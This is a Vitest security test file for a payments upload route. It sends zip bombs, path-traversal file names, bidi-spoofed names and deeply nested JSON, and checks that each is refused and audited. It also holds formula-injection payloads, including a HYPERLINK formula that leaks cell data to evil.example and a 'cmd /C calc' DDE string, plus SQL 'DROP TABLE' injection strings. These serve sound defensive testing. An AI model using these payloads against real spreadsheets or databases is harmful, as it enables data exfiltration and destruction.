/**
 * Hostile uploads through the real route handler (POST /api/sources/[id]/uploads) and the
 * ingestion pipeline, on SQLite and PostgreSQL. Every refusal is checked in the database
 * afterwards: no SourceRecord, no ingestion left staged or half-open, no file left in the
 * upload folder; the refusal itself is recorded (ingestion marked failed, audit row).
 */
import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { ROLES } from '@/lib/domain/roles';
import { createSource } from '@/lib/features/ingestion/sources';
import { decideIngestion, startIngestion } from '@/lib/features/ingestion/process-ingestion';
import { getIngestion, ingestionErrorsCsv } from '@/lib/features/ingestion/ingestion-queries';
import { closeBulkWriters } from '@/lib/server/db/record-insert';
import { binaryBytes, csv, deepJson, hiddenEntryXlsx, lyingZipBombXlsx, utf16, xlsxOf, zipBombXlsx } from '../hostile/fixtures';
import { createTestDatabase, DATABASE_KINDS, type TestDatabase } from './databases';

const session = vi.hoisted(() => ({ role: null as string | null }));
vi.mock('@/lib/auth/auth', () => ({
  auth: async () =>
    session.role ? { user: { id: `user-${session.role}`, email: `${session.role}@example.com`, name: session.role, role: session.role, sessionVersion: 0, sessionId: 'test-session' } } : null,
  signIn: async () => undefined,
  signOut: async () => undefined,
  handlers: {},
}));
vi.mock('next/headers', () => ({ headers: async () => new Headers(), cookies: async () => ({ get: () => undefined }) }));
vi.mock('next/cache', () => ({ revalidatePath: () => undefined, revalidateTag: () => undefined }));

const { POST } = await import('@/app/api/sources/[id]/uploads/route');
const { GET: errorsCsvRoute } = await import('@/app/api/ingestions/[id]/errors/route');
const actions = await import('@/app/(app)/sources/actions');

const tmp = mkdtempSync(path.join(os.tmpdir(), 'paidline-hostile-'));
const UPLOADS = path.join(tmp, 'uploads');
process.env.PAIDLINE_UPLOAD_DIR = UPLOADS;
process.env.PAIDLINE_RATE_LIMIT_SCALE = '1000';
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const uploadFiles = () => {
  try {
    return readdirSync(UPLOADS);
  } catch {
    return [];
  }
};

type Body = string | Buffer | ReadableStream<Uint8Array>;
async function upload(sourceId: string, body: Body, opts: { name?: string; rawName?: string; contentLength?: number; role?: string | null } = {}) {
  session.role = opts.role === undefined ? 'analyst' : opts.role;
  const headers: Record<string, string> = { origin: 'http://localhost', 'content-type': 'application/octet-stream', 'x-file-name': opts.rawName ?? encodeURIComponent(opts.name ?? 'upload.csv') };
  if (opts.contentLength !== undefined) headers['content-length'] = String(opts.contentLength);
  const request = new Request(`http://localhost/api/sources/${sourceId}/uploads`, {
    method: 'POST',
    body: typeof body === 'string' ? body : body instanceof Buffer ? new Uint8Array(body) : body,
    headers,
    duplex: 'half',
  } as RequestInit);
  const response = await POST(request, { params: Promise.resolve({ id: sourceId }) });
  return { status: response.status, body: (await response.json()) as { error?: string; ingestionId?: string; staged?: { ingestionId: string }; preview?: { header: string[]; notes: string[] } } };
}

/** A body that arrives in chunks and never says its length up front. */
function chunked(total: number, chunk = 1024): ReadableStream<Uint8Array> {
  let sent = 0;
  return new ReadableStream({
    pull(controller) {
      if (sent >= total) return controller.close();
      const n = Math.min(chunk, total - sent);
      sent += n;
      controller.enqueue(new Uint8Array(n).fill(0x41));
    },
  });
}

describe.each(DATABASE_KINDS)('hostile uploads on %s', (kind) => {
  let db: TestDatabase;
  let sourceId: string;
  const actor = null;

  beforeAll(async () => {
    db = await createTestDatabase(kind);
    process.env.DATABASE_URL = db.url;
    for (const role of ROLES) await db.prisma.user.create({ data: { id: `user-${role}`, email: `${role}@example.com`, name: role, role, passwordHash: 'x', mfaEnabled: true } });
    sourceId = (await createSource({ name: 'Hostile gateway', kind: 'gateway' }, { actor, db: db.prisma })).id;
  });
  afterAll(async () => {
    await closeBulkWriters();
    await db?.drop();
  });

  /** Nothing of this source was stored, nothing is left open, the upload folder is empty. */
  async function expectNothingPersisted(source = sourceId) {
    expect(await db.prisma.sourceRecord.count({ where: { sourceId: source } })).toBe(0);
    expect(await db.prisma.ingestion.count({ where: { sourceId: source, status: { in: ['staged', 'processing', 'needs_decision', 'committed'] } } })).toBe(0);
    expect(await db.prisma.ingestion.count({ where: { sourceId: source, stagedPath: { not: null } } })).toBe(0);
    expect(uploadFiles()).toEqual([]);
  }

  /** Refused after staging: 422, the message, the ingestion failed with it, audited. */
  async function expectRejected(result: Awaited<ReturnType<typeof upload>>, message: RegExp) {
    expect(result.status).toBe(422);
    expect(result.body.error).toMatch(/^The file could not be read: /);
    expect(result.body.error).toMatch(message);
    const ingestion = await getIngestion(result.body.ingestionId!, db.prisma);
    expect(ingestion).toMatchObject({ status: 'failed', message: result.body.error });
    expect(await db.prisma.auditLog.count({ where: { action: 'ingestion.failed', entityId: result.body.ingestionId } })).toBe(1);
    await expectNothingPersisted();
  }

  const wide = Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(',');
  const cases: [string, string, () => Body | Promise<Body>, RegExp][] = [
    ['malformed CSV: unbalanced quotes', 'quotes.csv', () => csv('TX1,2024-01-01,1.00,Paid', 'TX2,2024-01-02,"2.00,Paid'), /Line 3: a quoted field is never closed \(unbalanced double quote\)/],
    ['malformed CSV: 10,000 columns', 'wide.csv', () => `${wide}\n${wide}\n`, /the row has 10000 fields, more than the limit of 2000: check the delimiter/],
    ['malformed CSV: a 1 MB cell', 'cell.csv', () => csv(`TX1,2024-01-01,1.00,${'x'.repeat(1_000_000)}`), /a field is 977 KiB, more than the limit of 64 KiB/],
    ['binary data', 'payments.csv', () => binaryBytes(200_000), /binary data .*upload the CSV, XLSX or JSON export itself/],
    ['a PNG renamed .csv', 'photo.csv', () => Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), binaryBytes(5000)]), /The file is a PNG image, not a data export/],
    ['UTF-16 without a BOM, non-Latin text', 'cyr.csv', () => utf16(`Идентификатор,Сумма\n${Array.from({ length: 30 }, (_, i) => `Платёж ${i},${i}.00`).join('\n')}\n`, { bom: false }), /A UTF-16 text file needs its byte order mark; or save it as UTF-8/],
    ['an XLSX zip bomb', 'bomb.xlsx', () => zipBombXlsx(), /expands \d+-fold to 100 MiB: refused as a likely zip bomb/],
    ['an XLSX zip bomb lying about its size', 'liar.xlsx', () => lyingZipBombXlsx(), /declares 2 KiB but expands to more: refused as a zip bomb/],
    ['an XLSX hiding an entry from its directory', 'hidden.xlsx', () => hiddenEntryXlsx(), /damaged or was tampered with/],
    ['a huge XLSX sheet (2,100 columns)', 'huge.xlsx', () => xlsxOf([Array.from({ length: 2_100 }, (_, i) => `c${i}`), Array.from({ length: 2_100 }, () => 1)]), /the row has 2100 cells, more than the limit of 2000/],
    ['JSON nested 100,000 levels deep', 'deep.json', () => deepJson(100_000), /values are nested more than 64 levels deep/],
    ['JSON arrays nested 100,000 levels deep at the top', 'top.json', () => `${'['.repeat(100_000)}${']'.repeat(100_000)}`, /expected an array of objects, found nested arrays/],
  ];
  it.each(cases)('%s: 422 with a clear message, nothing persisted', async (_label, name, make, message) => {
    await expectRejected(await upload(sourceId, await make(), { name }), message);
  });

  it('UTF-16 with a BOM is decoded and ingested with every value intact', async () => {
    const other = (await createSource({ name: 'UTF-16 gateway', kind: 'gateway' }, { actor, db: db.prisma })).id;
    const r = await upload(other, utf16(csv('TX1,2024-01-01,1.00,Completed', 'TX2,2024-01-02,2.50,Zahlung offen ✓'), { bom: true }), { name: 'u16.csv' });
    expect(r.status).toBe(201);
    expect(r.body.preview!.header).toEqual(['TransactionID', 'Date', 'Amount', 'Status']);
    expect(r.body.preview!.notes.join(' ')).toContain('UTF-16LE');
    const profile = { dataset: 'payments' as const, columns: { id: 'TransactionID', date: 'Date', amount: 'Amount', status: 'Status' }, currency: 'EUR' };
    await startIngestion(r.body.staged!.ingestionId, { profile, onInvalid: 'abort', actor, db: db.prisma, wait: true });
    const records = await db.prisma.sourceRecord.findMany({ where: { sourceId: other }, orderBy: { line: 'asc' } });
    expect(records.map((x) => [x.txId, x.amountMinor, x.code])).toEqual([['TX1', 100n, 'Completed'], ['TX2', 250n, 'Zahlung offen ✓']]);
    expect(uploadFiles()).toEqual([]);
  });

  it('an empty file: 400, no ingestion at all', async () => {
    const before = await db.prisma.ingestion.count();
    const r = await upload(sourceId, '', { name: 'empty.csv' });
    expect(r).toEqual({ status: 400, body: { error: 'The file is empty (0 bytes). Choose the export file again and upload it.' } });
    expect(await db.prisma.ingestion.count()).toBe(before);
    await expectNothingPersisted();
  });

  describe('oversize uploads (PAIDLINE_MAX_UPLOAD_BYTES=4096)', () => {
    beforeAll(() => vi.stubEnv('PAIDLINE_MAX_UPLOAD_BYTES', '4096'));
    afterAll(() => vi.unstubAllEnvs());
    const message = 'The file is larger than the 4 KB upload limit (4,096 bytes). Split it into smaller files, or ask an admin to raise PAIDLINE_MAX_UPLOAD_BYTES.';

    it('Content-Length over the limit: 413 up front, the body is never read', async () => {
      const before = await db.prisma.ingestion.count();
      let pulled = 0;
      const body = new ReadableStream<Uint8Array>({ pull(c) { pulled++; c.enqueue(new Uint8Array(1024)); if (pulled > 5) c.close(); } });
      const r = await upload(sourceId, body, { name: 'big.csv', contentLength: 6144 });
      expect(r).toEqual({ status: 413, body: { error: message, limitBytes: 4096 } });
      expect(pulled).toBeLessThanOrEqual(1); // at most the stream's own first pull
      expect(await db.prisma.ingestion.count()).toBe(before);
      await expectNothingPersisted();
    });

    it('a stream that runs past the limit mid-way: 413, the partial file removed', async () => {
      const before = await db.prisma.ingestion.count();
      const r = await upload(sourceId, chunked(10_000), { name: 'chunked.csv' });
      expect(r).toEqual({ status: 413, body: { error: message, limitBytes: 4096 } });
      expect(await db.prisma.ingestion.count()).toBe(before);
      await expectNothingPersisted();
    });

    it('a file exactly at the limit is accepted', async () => {
      const text = csv(...Array.from({ length: 200 }, (_, i) => `TX${i},2024-01-01,1.00,Paid`));
      const exact = text.slice(0, 4096 - 1).replace(/\n[^\n]*$/, '\n');
      const padded = exact + ' '.repeat(4096 - exact.length);
      const r = await upload(sourceId, padded, { name: 'exact.csv' });
      expect(r.status).toBe(201);
      await db.prisma.ingestion.deleteMany({ where: { id: r.body.staged!.ingestionId } });
      rmSync(UPLOADS, { recursive: true, force: true });
    });
  });

  it('path-traversal, NUL, Windows-reserved, bidi and very long names: a sanitised label; the file lands only in the upload folder under a random name', async () => {
    const names: [string, string][] = [
      ['../../etc/passwd', 'passwd'],
      ['..\\..\\Windows\\System32\\drivers\\etc\\hosts.csv', 'hosts.csv'],
      ['pay\u0000ments.csv', 'payments.csv'],
      ['CON.csv', '_CON.csv'],
      ['nul', '_nul'],
      ['LPT1', '_LPT1'],
      ['invoice\u202Evsc.exe', 'invoicevsc.exe'],
      ['...', 'upload'],
      ['a<b>c:d|e?f*.csv', 'a_b_c_d_e_f_.csv'],
      [`${'x'.repeat(5000)}.csv`, `${'x'.repeat(196)}.csv`],
    ];
    const other = (await createSource({ name: 'Names gateway', kind: 'gateway' }, { actor, db: db.prisma })).id;
    for (const [i, [name, expected]] of names.entries()) {
      const r = await upload(other, csv(`TX${i},2024-01-01,1.00,Paid`), { name });
      expect(r.status, name).toBe(201);
      const row = await db.prisma.ingestion.findUniqueOrThrow({ where: { id: r.body.staged!.ingestionId } });
      expect(row.fileName).toBe(expected);
      expect(path.dirname(row.stagedPath!)).toBe(path.resolve(UPLOADS));
      expect(path.basename(row.stagedPath!)).toMatch(/^[0-9a-f-]{36}\.upload$/);
    }
    expect(uploadFiles()).toHaveLength(names.length);
    expect(uploadFiles().every((f) => /^[0-9a-f-]{36}\.upload$/.test(f))).toBe(true);
    // A name that is not valid URI encoding is refused before anything is written.
    const before = await db.prisma.ingestion.count();
    const bad = await upload(other, csv('TX9,2024-01-01,1.00,Paid'), { rawName: '%E0%A4%A' });
    expect(bad).toEqual({ status: 400, body: { error: 'The file name is not valid. Rename the file and try again.' } });
    expect(await db.prisma.ingestion.count()).toBe(before);
    await db.prisma.ingestion.deleteMany({ where: { sourceId: other } });
    rmSync(UPLOADS, { recursive: true, force: true });
  });

  it('signed out: 401; reviewer and executive: 403 (audited); nothing written', async () => {
    const before = await db.prisma.ingestion.count();
    const body = () => csv('TX1,2024-01-01,1.00,Paid');
    expect(await upload(sourceId, body(), { role: null })).toEqual({ status: 401, body: { error: 'Sign in to use this API.' } });
    for (const role of ['reviewer', 'executive']) {
      const denials = await db.prisma.auditLog.count({ where: { action: 'permission.denied', actorId: `user-${role}` } });
      const r = await upload(sourceId, body(), { role });
      expect(r.status).toBe(403);
      expect(r.body.error).toBe(`Your role (${role}) does not allow data:upload.`);
      expect(await db.prisma.auditLog.count({ where: { action: 'permission.denied', actorId: `user-${role}` } })).toBe(denials + 1);
    }
    expect(await db.prisma.ingestion.count()).toBe(before);
    await expectNothingPersisted();
  });

  it('the ingest and webhook-configuration actions refuse signed-out and cross-role callers, changing nothing', async () => {
    const other = (await createSource({ name: 'Actions gateway', kind: 'gateway' }, { actor, db: db.prisma })).id;
    const staged = await upload(other, csv('TX1,2024-01-01,1.00,Completed'), { name: 'ok.csv' });
    const ingestionId = staged.body.staged!.ingestionId;
    const profile = { dataset: 'payments' as const, columns: { id: 'TransactionID', amount: 'Amount', status: 'Status' }, currency: 'USD' };
    for (const role of [null, 'reviewer', 'executive']) {
      session.role = role;
      const expected = role ? /Your role does not allow this action/ : /Your session has ended/;
      expect(await actions.startIngestionAction({ ingestionId, profile, onInvalid: 'ask' })).toMatchObject({ ok: false, error: expect.stringMatching(expected) });
      expect(await actions.decideIngestionAction(ingestionId, 'commit')).toMatchObject({ ok: false, error: expect.stringMatching(expected) });
      expect(await actions.generateWebhookSecretAction(other)).toMatchObject({ ok: false, error: expect.stringMatching(expected) });
      expect(await actions.saveConnectorAction({ sourceId: other, config: { url: 'http://127.0.0.1:9/x' }, schedule: null })).toMatchObject({ ok: false, error: expect.stringMatching(expected) });
    }
    const sourceRow = await db.prisma.source.findUniqueOrThrow({ where: { id: other } });
    expect(sourceRow.webhookSecretsEnc).toBeNull();
    expect(sourceRow.connectorConfig ?? null).toBeNull();
    expect((await getIngestion(ingestionId, db.prisma))!.status).toBe('staged');
    expect(await db.prisma.sourceRecord.count({ where: { sourceId: other } })).toBe(0);
    expect(await db.prisma.sourceProfileVersion.count({ where: { sourceId: other } })).toBe(0);
    expect(await db.prisma.auditLog.count({ where: { entityId: other, action: { startsWith: 'source.', not: 'source.create' } } })).toBe(0);
    await db.prisma.ingestion.deleteMany({ where: { sourceId: other } });
    rmSync(UPLOADS, { recursive: true, force: true });
  });

  describe('amounts and dates', () => {
    const bad: [string, string, RegExp][] = [
      ['TXA1', '2024-01-01,NaN', /Amount "NaN" is not a number/],
      ['TXA2', '2024-01-01,Infinity', /Amount "Infinity" is not a number/],
      ['TXA3', '2024-01-01,-Infinity', /Amount "-Infinity" is not a number/],
      ['TXA4', '2024-01-01,1e309', /Amount "1e309" is not a number/],
      ['TXA5', '2024-01-01,99999999999999999999.99', /Amount "99999999999999999999.99" is too large/],
      ['TXA6', '2024-01-01,90071992547409.93', /Amount "90071992547409.93" is too large/],
      ['TXA7', '2024-01-01,10000000000000.01', /implausibly large \(over 10\^15 minor units\)/],
      ['TXA8', '2024-01-01,1.005', /Amount "1.005" has more decimal places than USD allows/],
      ['TXD1', '2024-02-30,1.00', /Date "2024-02-30" does not exist/],
      ['TXD2', '2024-13-01,1.00', /Date "2024-13-01" does not exist/],
      ['TXD3', '0000-01-01,1.00', /the date is outside 1970-2100/],
      ['TXD4', '99999-01-01,1.00', /Date "99999-01-01" does not match the date format/],
      ['TXD5', '2024-01-01T25:61:00,1.00', /Date "2024-01-01T25:61:00" does not exist/],
    ];
    const file = csv('TXOK1,2024-01-01,-5.00,Completed', 'TXOK2,2024-01-02,10000000000000.00,Completed', ...bad.map(([id, rest]) => `${id},${rest},Completed`));
    const profile = { dataset: 'payments' as const, columns: { id: 'TransactionID', date: 'Date', amount: 'Amount', status: 'Status' }, currency: 'USD' };

    it('each bad amount or date is a row error naming the column and the value; abort stores nothing', async () => {
      const other = (await createSource({ name: 'Amounts gateway', kind: 'gateway' }, { actor, db: db.prisma })).id;
      const r = await upload(other, file, { name: 'amounts.csv' });
      await startIngestion(r.body.staged!.ingestionId, { profile, onInvalid: 'abort', actor, db: db.prisma, wait: true });
      const ingestion = await getIngestion(r.body.staged!.ingestionId, db.prisma);
      expect(ingestion).toMatchObject({ status: 'aborted', rowsValid: 2, rowsInvalid: bad.length });
      expect(ingestion!.message).toBe(`${bad.length} of ${bad.length + 2} rows are invalid; nothing was ingested. Download the bad rows, fix them and upload again.`);
      const errors = await db.prisma.ingestionError.findMany({ where: { ingestionId: r.body.staged!.ingestionId }, orderBy: { line: 'asc' } });
      expect(errors).toHaveLength(bad.length);
      bad.forEach(([, , reason], i) => expect(errors[i]!.reason).toMatch(reason));
      await expectNothingPersisted(other);
    });

    it('"ask" holds them for a decision; committing stores only the valid rows, a refund stays negative', async () => {
      const other = (await createSource({ name: 'Amounts gateway 2', kind: 'gateway' }, { actor, db: db.prisma })).id;
      const r = await upload(other, file, { name: 'amounts.csv' });
      await startIngestion(r.body.staged!.ingestionId, { profile, onInvalid: 'ask', actor, db: db.prisma, wait: true });
      expect((await getIngestion(r.body.staged!.ingestionId, db.prisma))!.status).toBe('needs_decision');
      await decideIngestion(r.body.staged!.ingestionId, 'commit', actor, db.prisma);
      const records = await db.prisma.sourceRecord.findMany({ where: { sourceId: other }, orderBy: { line: 'asc' } });
      expect(records.map((x) => [x.txId, x.amountMinor])).toEqual([['TXOK1', -500n], ['TXOK2', 1_000_000_000_000_000n]]);
      expect(uploadFiles()).toEqual([]);
    });
  });

  it('formula-injection and SQL-like strings are stored verbatim and harmless; the bad-rows CSV neutralises them', async () => {
    const other = (await createSource({ name: 'Formula gateway', kind: 'gateway' }, { actor, db: db.prisma })).id;
    const ids = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', `'; DROP TABLE "SourceRecord"; --`, `Robert'); DELETE FROM "Ingestion" WHERE ('1'='1`];
    const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;
    const text = csv(...ids.map((id, i) => `${quote(id)},2024-01-0${i + 1},${i + 1}.00,${quote(i === 6 ? "Paid'; DROP TABLE x; --" : 'Completed')}`), `TXBAD1,2024-01-09,=1+1,Completed`, `TXBAD2,2024-01-09,"=HYPERLINK(""http://evil.example"")",Completed`);
    const r = await upload(other, text, { name: 'formulas.csv' });
    expect(r.status).toBe(201);
    const profile = { dataset: 'payments' as const, columns: { id: 'TransactionID', date: 'Date', amount: 'Amount', status: 'Status' }, currency: 'USD' };
    await startIngestion(r.body.staged!.ingestionId, { profile, onInvalid: 'valid_only', actor, db: db.prisma, wait: true });
    expect(await getIngestion(r.body.staged!.ingestionId, db.prisma)).toMatchObject({ status: 'committed', rowsValid: ids.length, rowsInvalid: 2 });
    const records = await db.prisma.sourceRecord.findMany({ where: { sourceId: other }, orderBy: { line: 'asc' } });
    expect(records.map((x) => x.txId)).toEqual(ids.map((id) => id.trim()));
    expect(records[6]!.code).toBe("Paid'; DROP TABLE x; --");
    expect(JSON.parse(records[0]!.raw!).TransactionID).toBe(ids[0]);
    // The tables are all still there and whole.
    expect(await db.prisma.ingestion.count({ where: { sourceId: other } })).toBe(1);
    expect(await db.prisma.sourceRecord.count()).toBeGreaterThanOrEqual(ids.length);

    let errorsCsv = '';
    for await (const chunk of ingestionErrorsCsv(r.body.staged!.ingestionId, db.prisma)) errorsCsv += chunk;
    expect(errorsCsv).toContain(",'=1+1\n");
    expect(errorsCsv).toContain(`"'=HYPERLINK(""http://evil.example"")"`);
    expect(errorsCsv).not.toMatch(/(^|,)[=+@\t\r]/m);
    // Through the route as an analyst would download it.
    session.role = 'analyst';
    const res = await errorsCsvRoute(new Request('http://localhost/x'), { params: Promise.resolve({ id: r.body.staged!.ingestionId }) });
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(await res.text()).toBe(errorsCsv);
  });
});
